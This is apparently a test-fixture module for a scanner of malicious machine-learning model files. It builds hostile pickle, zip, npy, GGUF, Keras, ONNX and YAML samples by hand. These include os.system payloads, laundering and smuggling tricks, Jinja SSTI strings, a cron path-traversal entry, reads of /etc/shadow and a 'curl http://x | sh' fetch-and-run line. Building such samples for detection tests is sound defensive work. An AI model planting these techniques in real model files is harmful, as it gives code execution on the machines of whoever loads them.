"""Hostile and benign samples for the scanner, generated at test time.

Malicious payloads are written opcode by opcode; nothing here is ever unpickled. Each sample is
(name, files, minimum severity expected, what it exercises); ``files`` maps relative paths to
bytes so a sample can be a directory (config + code, ONNX + external data, ...).
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

from detente.scan import Severity

C, H = Severity.CRITICAL, Severity.HIGH
Sample = tuple[str, dict[str, bytes], Severity, str]


def s(text: str) -> bytes:
    b = text.encode()
    return b"\x8c" + bytes([len(b)]) + b  # SHORT_BINUNICODE


def glob0(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def call_reduce(module: str, name: str, *args: str, proto: int = 2) -> bytes:
    body = glob0(module, name) + b"(" + b"".join(s(a) for a in args) + b"tR."
    return (b"\x80" + bytes([proto]) if proto >= 2 else b"") + body


def stack_global(module: str, name: str) -> bytes:
    return s(module) + s(name) + b"\x93"


# --- opcode paths to a call ------------------------------------------------------------
def opcode_paths() -> list[Sample]:
    out: list[Sample] = [
        ("reduce.pkl", {"reduce.pkl": call_reduce("os", "system", "id")}, C, "REDUCE"),
        ("inst.pkl", {"inst.pkl": b"(S'id'\nios\nsystem\n."}, C, "INST"),
        ("obj.pkl", {"obj.pkl": b"\x80\x02(" + glob0("os", "system") + s("id") + b"o."}, C, "OBJ"),
        (
            "obj_pop.pkl",
            {"obj_pop.pkl": b"\x80\x02(" + glob0("os", "system") + s("id") + b"o0N."},
            C,
            "OBJ + POP (result discarded, side effect stays)",
        ),
        (
            "newobj.pkl",
            {"newobj.pkl": b"\x80\x02" + glob0("subprocess", "Popen") + b"(" + s("id") + b"t\x81."},
            C,
            "NEWOBJ",
        ),
        (
            "newobj_ex.pkl",
            {
                "newobj_ex.pkl": b"\x80\x04"
                + stack_global("subprocess", "Popen")
                + b"("
                + s("id")
                + b"t}\x92."
            },
            C,
            "NEWOBJ_EX",
        ),
        (
            "stack_global.pkl",
            {
                "stack_global.pkl": b"\x80\x04"
                + stack_global("builtins", "eval")
                + s("1+1")
                + b"\x85R."
            },
            C,
            "STACK_GLOBAL + TUPLE1 + REDUCE",
        ),
    ]
    return out


DANGEROUS = [
    ("os", "popen"), ("os", "execv"), ("os", "spawnl"), ("posix", "system"), ("nt", "system"),
    ("subprocess", "run"), ("subprocess", "check_output"), ("builtins", "exec"),
    ("builtins", "eval"), ("builtins", "compile"), ("builtins", "open"), ("builtins", "__import__"),
    ("pty", "spawn"), ("runpy", "run_path"), ("runpy", "_run_code"), ("importlib", "import_module"),
    ("code", "InteractiveInterpreter"), ("shutil", "rmtree"), ("socket", "create_connection"),
    ("urllib.request", "urlopen"), ("requests", "get"), ("webbrowser", "open"),
    ("ctypes", "CDLL"), ("marshal", "loads"), ("types", "FunctionType"), ("timeit", "timeit"),
    ("cProfile", "run"), ("pdb", "run"), ("torch.hub", "load"), ("torch.jit", "load"),
    ("numpy", "load"), ("asyncio", "create_subprocess_shell"), ("sys", "exit"),
    ("multiprocessing", "Process"), ("platform", "popen"), ("pip", "main"),
]  # fmt: skip


def dangerous_callables() -> list[Sample]:
    return [
        (f"callable_{m}_{n}.pkl", {f"callable_{m}_{n}.pkl": call_reduce(m, n, "x")}, C, f"{m}.{n}")
        for m, n in DANGEROUS
    ]


def gadgets() -> list[Sample]:
    getattr_chain = (
        b"\x80\x02"
        + glob0("builtins", "getattr")
        + b"(" + glob0("builtins", "__import__") + b"(" + s("os") + b"tR" + s("system") + b"tR"
        + b"(" + s("id") + b"tR."
    )  # fmt: skip
    attrgetter = b"\x80\x02" + glob0("operator", "attrgetter") + b"(" + s("system") + b"tR."
    partial = (
        b"\x80\x02"
        + glob0("functools", "partial")
        + b"("
        + glob0("os", "system")
        + s("id")
        + b"tR."
    )
    computed_call = (
        b"\x80\x02" + glob0("collections", "OrderedDict") + b")R"  # an allowed call result...
        + b"(" + s("x") + b"tR."  # ...then called: a computed callable
    )  # fmt: skip
    return [
        (
            "gadget_getattr.pkl",
            {"gadget_getattr.pkl": getattr_chain},
            C,
            "getattr(__import__('os'), 'system')",
        ),
        ("gadget_attrgetter.pkl", {"gadget_attrgetter.pkl": attrgetter}, C, "operator.attrgetter"),
        ("gadget_partial.pkl", {"gadget_partial.pkl": partial}, C, "functools.partial(os.system)"),
        ("gadget_computed.pkl", {"gadget_computed.pkl": computed_call}, C, "call of a call result"),
    ]


def names() -> list[Sample]:
    dunder = b"\x80\x04" + stack_global("builtins", "object.__subclasses__") + b")R."
    dotted = b"\x80\x02" + glob0("os", "path.os.system") + b"(" + s("id") + b"tR."
    dunder_mod = b"\x80\x02" + glob0("builtins.__dict__", "get") + b"."
    computed = (
        b"\x80\x04" + stack_global("builtins", "str") + b")R"  # module name computed by a call
        + s("system") + b"\x93" + b"(" + s("id") + b"tR."
    )  # fmt: skip
    memo_name = (
        b"\x80\x04"
        + s("os")
        + b"\x94"
        + s("system")
        + b"\x94"
        + b"0h\x00h\x01\x93("
        + s("id")
        + b"tR."
    )
    return [
        ("dunder.pkl", {"dunder.pkl": dunder}, C, "dunder segment in a dotted name"),
        ("dotted.pkl", {"dotted.pkl": dotted}, C, "dotted name resolved segment by segment"),
        ("dunder_module.pkl", {"dunder_module.pkl": dunder_mod}, C, "dunder in module path"),
        (
            "computed_name.pkl",
            {"computed_name.pkl": computed},
            C,
            "STACK_GLOBAL operand is not a literal",
        ),
        ("memo_names.pkl", {"memo_names.pkl": memo_name}, C, "STACK_GLOBAL operands from the memo"),
    ]


def memo_tricks() -> list[Sample]:
    # Store os.system in the memo, pop it, fetch it back much later by LONG_BINGET.
    hidden = (
        b"\x80\x02" + glob0("os", "system") + b"r\x07\x00\x00\x000"
        + b"]" + s("decoy") + b"a0"
        + b"j\x07\x00\x00\x00(" + s("id") + b"tR."
    )  # fmt: skip
    text_memo = b"cos\nsystem\np99\n0g99\n(S'id'\ntR."
    return [
        ("memo_long.pkl", {"memo_long.pkl": hidden}, C, "LONG_BINPUT/LONG_BINGET laundering"),
        ("memo_text.pkl", {"memo_text.pkl": text_memo}, C, "protocol-0 PUT/GET laundering"),
    ]


def framing_and_streams() -> list[Sample]:
    payload = call_reduce("os", "system", "id", proto=4)[2:]
    # FRAME claims the whole rest; the C unpickler decodes linearly through it.
    framed = b"\x80\x04\x95" + struct.pack("<Q", len(payload)) + payload
    # A frame length shorter than the opcodes that follow: pickletools and _pickle disagree.
    short_frame = b"\x80\x04\x95" + struct.pack("<Q", 3) + payload
    benign = pickle.dumps({"weights": [1, 2, 3]}, protocol=2)
    evil = call_reduce("os", "system", "id")
    return [
        ("frame.pkl", {"frame.pkl": framed}, C, "payload inside a FRAME"),
        ("frame_short.pkl", {"frame_short.pkl": short_frame}, C, "FRAME length divergence"),
        (
            "garbage_after.pkl",
            {"garbage_after.pkl": evil + b"\xff\xfeGARBAGE" * 10},
            C,
            "payload then garbage",
        ),
        ("stacked.pkl", {"stacked.pkl": benign + evil}, C, "payload in a later stacked pickle"),
        (
            "hidden_after_garbage.pkl",
            {"hidden_after_garbage.pkl": benign + b"\xff\x00junk" + evil},
            C,
            "pickle after garbage",
        ),
        ("ext.pkl", {"ext.pkl": b"\x80\x02\x82\x01(" + s("id") + b"tR."}, H, "EXT1 opcode"),
        (
            "build_global.pkl",
            {
                "build_global.pkl": b"\x80\x02"
                + glob0("torch", "FloatStorage")
                + b"}"
                + s("x")
                + s("y")
                + b"sb."
            },
            H,
            "BUILD on a module-level object",
        ),
    ]


def nested() -> list[Sample]:
    inner = call_reduce("os", "system", "id")
    outer = b"\x80\x02" + glob0("pickle", "loads") + b"(C" + bytes([len(inner)]) + inner + b"tR."
    torch_bytes = (
        b"\x80\x02"
        + glob0("torch.storage", "_load_from_bytes")
        + b"(C"
        + bytes([len(inner)])
        + inner
        + b"tR."
    )
    return [
        ("nested.pkl", {"nested.pkl": outer}, C, "pickle.loads of embedded bytes"),
        (
            "nested_torch.pkl",
            {"nested_torch.pkl": torch_bytes},
            C,
            "torch.storage._load_from_bytes",
        ),
    ]


def misleading() -> list[Sample]:
    p0 = b"cos\nsystem\n(S'touch /tmp/pwned'\ntR."
    return [
        ("notes.txt", {"notes.txt": p0}, C, "protocol 0 pickle named .txt"),
        ("weights.bin", {"weights.bin": p0}, C, "protocol 0 pickle named .bin"),
        (
            "model.safetensors",
            {"model.safetensors": call_reduce("os", "system", "id")},
            C,
            "pickle named .safetensors",
        ),
    ]


# --- zip tricks --------------------------------------------------------------------------
class _Reduce:
    """Pickles as a call of os.system; pickling it never calls anything."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return (os.system, ("id",))


def _joblib_with_payload() -> bytes:
    import tempfile
    from pathlib import Path

    import joblib
    import numpy as np

    with tempfile.TemporaryDirectory() as d:
        p = Path(d) / "m.joblib"
        joblib.dump([np.arange(1000, dtype=np.float64), _Reduce()], p)
        return p.read_bytes()


def _torch_zip(
    pkl: bytes, name: str = "archive/data.pkl", extra: dict[str, bytes] | None = None
) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(name, pkl)
        z.writestr("archive/version", b"3\n")
        for k, v in (extra or {}).items():
            z.writestr(k, v)
    return buf.getvalue()


def zip_tricks() -> list[Sample]:
    evil = call_reduce("os", "system", "id")
    plain = _torch_zip(evil)
    bad_crc = bytearray(plain)
    bad_crc[14:18] = b"\xde\xad\xbe\xef"  # local header CRC
    first_cd = bytes(bad_crc).find(b"PK\x01\x02")
    bad_crc[first_cd + 16 : first_cd + 20] = b"\xde\xad\xbe\xef"  # central CRC too
    flags = bytearray(plain)
    flags[6:8] = b"\x01\x00"  # "encrypted" flag bit, which torch's reader ignores
    flags[first_cd + 8 : first_cd + 10] = b"\x01\x00"
    renamed = bytearray(plain)
    renamed[30:46] = b"archive/data.txt"  # local name differs from central "archive/data.pkl"
    hidden_member = plain[: plain.find(b"PK\x01\x02")]
    hidden_buf = io.BytesIO()
    with zipfile.ZipFile(hidden_buf, "w") as z:
        z.writestr("archive/data.pkl", pickle.dumps({"ok": 1}, protocol=2))
    benign_zip = hidden_buf.getvalue()
    cd_off = benign_zip.find(b"PK\x01\x02")
    local_evil = hidden_member  # a full local entry with the evil pickle
    # Insert the evil local entry before the benign central directory and fix the CD offset.
    smuggled = bytearray(benign_zip[:cd_off] + local_evil + benign_zip[cd_off:])
    eocd = bytes(smuggled).rfind(b"PK\x05\x06")
    struct.pack_into("<I", smuggled, eocd + 16, cd_off + len(local_evil))
    zip64_buf = io.BytesIO()
    with (
        zipfile.ZipFile(zip64_buf, "w", allowZip64=True) as z,
        z.open("archive/data.pkl", "w", force_zip64=True) as fh,
    ):
        fh.write(evil)
    return [
        ("zip_plain.pt", {"zip_plain.pt": plain}, C, "torch zip with a payload"),
        ("zip_bad_crc.pt", {"zip_bad_crc.pt": bytes(bad_crc)}, C, "CRC mismatch torch ignores"),
        ("zip_flags.pt", {"zip_flags.pt": bytes(flags)}, C, "encrypted flag bit torch ignores"),
        ("zip_renamed.pt", {"zip_renamed.pt": bytes(renamed)}, H, "local vs central name mismatch"),
        (
            "zip_smuggled.pt",
            {"zip_smuggled.pt": bytes(smuggled)},
            C,
            "local entry absent from the central directory",
        ),
        (
            "zip_other_dir.pt",
            {"zip_other_dir.pt": _torch_zip(evil, "weights/sub/data.pkl")},
            C,
            "data.pkl in another directory",
        ),
        (
            "zip_extra_member.pt",
            {
                "zip_extra_member.pt": _torch_zip(
                    pickle.dumps([1]), extra={"archive/extra.pkl": evil}
                )
            },
            C,
            "payload in an extra member",
        ),
        ("zip64.pt", {"zip64.pt": zip64_buf.getvalue()}, C, "zip64 records"),
        ("zip_deflated.pt", {"zip_deflated.pt": _deflated(evil)}, C, "deflated member"),
        ("zip_traversal.zip", {"zip_traversal.zip": _traversal_zip()}, H, "member name with .."),
        ("nested.zip", {"nested.zip": _nested_zip(plain)}, C, "zip inside a zip"),
    ]


def _deflated(evil: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", evil)
    return buf.getvalue()


def _traversal_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("../../etc/cron.d/evil", b"* * * * * root id\n")
    return buf.getvalue()


def _nested_zip(inner: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("inner.pt", inner)
    return buf.getvalue()


# --- legacy torch, numpy, joblib, compression ------------------------------------------
def containers() -> list[Sample]:
    evil = call_reduce("os", "system", "id")
    legacy = (
        pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
        + pickle.dumps({"protocol_version": 1001}, protocol=2) + evil
    )  # fmt: skip
    tar_buf = io.BytesIO()
    with tarfile.open(fileobj=tar_buf, mode="w") as tf:
        for name, data in (("sys_info", pickle.dumps({})), ("pickle", evil)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    npy_header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    npy_header += " " * (-(len(npy_header) + 11) % 64) + "\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(npy_header)) + npy_header.encode() + evil
    npz = io.BytesIO()
    with zipfile.ZipFile(npz, "w") as z:
        z.writestr("arr_0.npy", npy)
    import gzip
    import lzma

    joblib_like = _joblib_with_payload()
    return [
        ("legacy.pt", {"legacy.pt": legacy}, C, "legacy torch stacked pickles"),
        ("legacy_tar.pt", {"legacy_tar.pt": tar_buf.getvalue()}, C, "legacy torch tar"),
        ("object.npy", {"object.npy": npy}, C, "object-dtype npy"),
        ("object.npz", {"object.npz": npz.getvalue()}, C, "object-dtype npy inside npz"),
        ("model.joblib", {"model.joblib": zlib.compress(evil)}, C, "zlib-compressed joblib"),
        ("model_gz.joblib", {"model_gz.joblib": gzip.compress(evil)}, C, "gzip-compressed joblib"),
        ("model_xz.joblib", {"model_xz.joblib": lzma.compress(evil)}, C, "xz-compressed joblib"),
        (
            "model_lzma.joblib",
            {"model_lzma.joblib": lzma.compress(evil, format=lzma.FORMAT_ALONE)},
            C,
            "lzma joblib",
        ),
        ("model.pkl.bz2", {"model.pkl.bz2": __import__("bz2").compress(evil)}, C, "bz2 pickle"),
        ("wrapper.joblib", {"wrapper.joblib": joblib_like}, C, "payload after a joblib wrapper"),
    ]


# --- config-level attacks ------------------------------------------------------------------
SSTI = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id') }}",
    "{{ self._TemplateReference__context }}",
    "{{ ''|attr('__class__') }}",
    "{{ ''|attr('__cla' ~ 'ss__') }}",
    "{{ x['__globals__'] }}",
    "{{ ('%c%c%c%c%c%c%c%c%c'|format(95,95,99,108,97,115,115,95,95)) }}",
    "{{ joiner.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
]


def _gguf_with_template(template: str) -> bytes:
    import tempfile
    from pathlib import Path

    import gguf
    import numpy as np

    with tempfile.TemporaryDirectory() as d:
        p = Path(d) / "m.gguf"
        w = gguf.GGUFWriter(str(p), "llama")
        w.add_chat_template(template)
        w.add_tensor("w", np.zeros(32, np.float32))
        w.write_header_to_file()
        w.write_kv_data_to_file()
        w.write_tensors_to_file()
        w.close()
        return p.read_bytes()


def _onnx_external(location: str) -> bytes:
    import onnx
    from onnx import TensorProto, helper

    t = helper.make_tensor("w", TensorProto.FLOAT, [1], [0.0])
    t.ClearField("float_data")
    t.data_location = TensorProto.EXTERNAL
    e = t.external_data.add()
    e.key, e.value = "location", location
    node = helper.make_node("Identity", ["w"], ["y"])
    graph = helper.make_graph(
        [node], "g", [], [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])], [t]
    )
    return helper.make_model(graph).SerializeToString() if onnx else b""


def _onnx_custom_domain() -> bytes:
    from onnx import TensorProto, helper

    node = helper.make_node("Evil", ["x"], ["y"], domain="com.attacker.ops")
    graph = helper.make_graph(
        [node], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
    )  # fmt: skip
    return helper.make_model(
        graph,
        opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.attacker.ops", 1)],
    ).SerializeToString()


def _pb_str(field: int, value: bytes) -> bytes:
    return bytes([field << 3 | 2, len(value)]) + value


def _saved_model(op: str) -> bytes:
    node = _pb_str(1, b"n") + _pb_str(2, op.encode())
    graph = _pb_str(1, node)
    meta = _pb_str(2, graph)
    return _pb_str(2, meta)


def _keras_zip(layer: dict) -> bytes:
    config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
        z.writestr("config.json", json.dumps(config))
    return buf.getvalue()


def _tar(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _h5_lambda() -> bytes:
    # An HDF5 file whose model_config attribute holds a Lambda layer, as Keras 2 wrote it.
    import tempfile
    from pathlib import Path

    import h5py

    cfg = {
        "class_name": "Sequential",
        "config": {
            "layers": [
                {
                    "class_name": "Lambda",
                    "config": {
                        "function": [
                            "4wEAAAAAAAAAAAAAAAEAAAAFAAAAQwAAAHMMAAAAdAB8AIMBAQB8AFMAKQFO",
                            None,
                            None,
                        ],
                        "function_type": "lambda",
                    },
                }
            ]
        },
    }
    with tempfile.TemporaryDirectory() as d:
        p = Path(d) / "m.h5"
        with h5py.File(p, "w") as f:
            f.attrs["model_config"] = json.dumps(cfg)
        return p.read_bytes()


def configs() -> list[Sample]:
    out: list[Sample] = []
    for i, tpl in enumerate(SSTI):
        out.append(
            (
                f"ssti_{i}.gguf",
                {f"ssti_{i}.gguf": _gguf_with_template(tpl)},
                C if i != 3 else H,
                f"GGUF SSTI: {tpl}",
            )
        )
        out.append(
            (
                f"tok_ssti_{i}",
                {"tokenizer_config.json": json.dumps({"chat_template": tpl}).encode()},
                C if i != 3 else H,
                f"tokenizer_config SSTI: {tpl}",
            )
        )
    out += [
        (
            "auto_map",
            {
                "config.json": json.dumps(
                    {"model_type": "evil", "auto_map": {"AutoModel": "modeling_evil.EvilModel"}}
                ).encode(),
                "modeling_evil.py": b"import os\nos.system('curl http://x | sh')\nclass EvilModel: pass\n",
            },
            C,
            "auto_map + malicious module-level code",
        ),
        (
            "keras_lambda.keras",
            {
                "keras_lambda.keras": _keras_zip(
                    {
                        "class_name": "Lambda",
                        "config": {
                            "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAA"}}
                        },
                    }
                )
            },
            C,
            "Keras Lambda layer",
        ),
        (
            "keras_module.keras",
            {
                "keras_module.keras": _keras_zip(
                    {"module": "os", "class_name": "system", "config": {}}
                )
            },
            C,
            "Keras config importing os",
        ),
        ("keras_lambda.h5", {"keras_lambda.h5": _h5_lambda()}, C, "Keras .h5 Lambda"),
        ("saved_model", {"saved_model.pb": _saved_model("PyFunc")}, C, "SavedModel PyFunc op"),
        (
            "saved_model_write",
            {"saved_model.pb": _saved_model("WriteFile")},
            C,
            "SavedModel WriteFile op",
        ),
        (
            "onnx_traversal",
            {"model.onnx": _onnx_external("../../etc/passwd")},
            C,
            "ONNX external data with ..",
        ),
        (
            "onnx_absolute",
            {"model.onnx": _onnx_external("/etc/shadow")},
            C,
            "ONNX absolute external data",
        ),
        ("onnx_domain", {"model.onnx": _onnx_custom_domain()}, H, "ONNX custom op domain"),
        (
            "nemo",
            {
                "model.nemo": _tar(
                    {"model_config.yaml": b"model:\n  _target_: os.system\n  command: id\n"}
                )
            },
            C,
            "NeMo _target_: os.system",
        ),
        (
            "hydra_yaml",
            {"config.yaml": b"trainer:\n  _target_: builtins.eval\n"},
            C,
            "Hydra _target_ to eval",
        ),
        (
            "yaml_python_tag",
            {"config.yaml": b"x: !!python/object/apply:os.system ['id']\n"},
            C,
            "YAML python tag",
        ),
        (
            "bad.safetensors",
            {"bad.safetensors": struct.pack("<Q", 10**9) + b'{"a": 1}'},
            H,
            "malformed safetensors header",
        ),
        (
            "overlap.safetensors",
            {"overlap.safetensors": _overlap_safetensors()},
            H,
            "overlapping safetensors tensors",
        ),
    ]
    return out


def _overlap_safetensors() -> bytes:
    header = json.dumps(
        {
            "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
            "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]},
        }
    ).encode()
    return struct.pack("<Q", len(header)) + header + b"\0" * 12


def malicious() -> list[Sample]:
    generators: list[Callable[[], list[Sample]]] = [
        opcode_paths, dangerous_callables, gadgets, names, memo_tricks, framing_and_streams,
        nested, misleading, zip_tricks, containers, configs,
    ]  # fmt: skip
    out: list[Sample] = []
    for g in generators:
        out += g()
    return out
